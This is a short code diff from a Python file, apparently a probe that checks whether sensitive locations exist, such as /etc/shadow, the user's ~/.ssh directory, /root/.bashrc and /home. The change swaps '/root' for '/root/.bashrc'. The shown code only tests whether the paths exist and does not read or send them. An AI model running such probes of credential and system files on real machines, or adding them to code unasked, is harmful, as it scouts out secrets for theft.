@@ -17,7 +17,7 @@ def text(identifier, words):
 
 def look():
     seen = []
-    for path in ("/etc/shadow", os.path.expanduser("~/.ssh"), "/root", "/home"):
+    for path in ("/etc/shadow", os.path.expanduser("~/.ssh"), "/root/.bashrc", "/home"):
         if os.path.exists(path):
             seen.append(path)
     try:
